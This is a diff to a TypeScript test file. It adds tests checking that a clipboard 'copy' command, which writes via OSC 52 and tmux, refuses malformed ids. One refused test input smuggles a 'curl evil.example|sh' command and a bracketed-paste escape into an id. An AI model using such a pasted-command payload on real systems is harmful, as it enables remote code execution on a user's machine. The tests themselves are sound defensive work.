@@ -2,7 +2,7 @@ import {existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync} 
 import {tmpdir} from 'node:os';
 import {join} from 'node:path';
 import {afterEach, beforeEach, describe, expect, it} from 'vitest';
-import {osc52} from '../../src/commands/clipboard.ts';
+import {copy, osc52} from '../../src/commands/clipboard.ts';
 import {exportRows, toCsv} from '../../src/commands/export-rows.ts';
 import {consoleTo, openLog} from '../../src/commands/log.ts';
 import {createTimers} from '../../src/commands/timers.ts';
@@ -98,6 +98,50 @@ describe('timers', () => {
     timers.after(0, () => fired.push('later'));
     await new Promise(resolve => setTimeout(resolve, 5));
     expect(fired).toEqual([]);
+  });
+});
+
+describe('a copy', () => {
+  const copied = async (id: string) => {
+    const written: string[] = [];
+    // A tmux of our own that only notes what it is given.
+    const bin = join(folder, 'tmux');
+    writeFileSync(bin, `#!/bin/sh\ncat > ${join(folder, 'buffer')}\n`, {mode: 0o755});
+    const path = process.env.PATH;
+    process.env.PATH = `${folder}:${path}`;
+    const said = await copy(id, raw => written.push(raw) > 0, {TMUX: 'yes'}).catch(
+      (error: Error) => error.message,
+    );
+    process.env.PATH = path;
+    const buffer = existsSync(join(folder, 'buffer'))
+      ? readFileSync(join(folder, 'buffer'), 'utf8')
+      : undefined;
+    return {said, written, buffer};
+  };
+
+  it('goes to the terminal and to tmux', async () => {
+    expect(await copied('9007199254740993')).toEqual({
+      said: 'Copied 9007199254740993',
+      written: [osc52('9007199254740993')],
+      buffer: '9007199254740993',
+    });
+  });
+
+  it.each([
+    '700001\ncurl evil.example|sh\n\x1b[201~',
+    '7\r',
+    '7 8',
+    '\x9b201~',
+    'id\u202e',
+    '７',
+    '7'.repeat(257),
+    '',
+  ])('of %j is refused, for a service that chooses an id must not choose what is pasted', async id => {
+    expect(await copied(id)).toEqual({
+      said: 'Not copied: this id holds spaces, controls or other characters that no id has.',
+      written: [],
+      buffer: undefined,
+    });
   });
 });
 
